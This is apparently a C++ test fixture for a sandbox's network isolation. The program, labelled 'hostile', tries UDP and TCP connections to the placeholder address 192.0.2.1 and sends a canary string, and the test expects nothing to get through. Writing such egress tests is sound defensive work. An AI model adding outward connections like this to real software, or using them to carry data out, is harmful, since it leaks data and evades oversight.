// hostile: connects to a machine elsewhere, over TCP and UDP, to carry away what it saw
// gets: 01-raw-get: checked, at most 0
// proof: made with --outward ADDRESS:PORT of a listener of the test, that gets neither a connection nor a datagram

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cstdio>
#include <initializer_list>

constexpr char address[] = "192.0.2.1";  // goes nowhere (RFC 5737); --outward puts another here
constexpr int port = 4711;

int main() {
    alarm(3);
    sockaddr_in outward{};
    outward.sin_family = AF_INET;
    outward.sin_port = htons(port);
    inet_pton(AF_INET, address, &outward.sin_addr);
    for (const int type : {SOCK_DGRAM, SOCK_STREAM}) {
        const int s = socket(AF_INET, type, 0);
        const bool connected = connect(s, reinterpret_cast<const sockaddr*>(&outward), sizeof outward) == 0;
        if (connected && send(s, "http-by-hand-canary\n", 20, MSG_NOSIGNAL) == 20 && type == SOCK_STREAM) {
            std::fputs("http-by-hand-leak-connects_outward: connected\n", stderr);
        }
        close(s);
    }
    return 1;
}
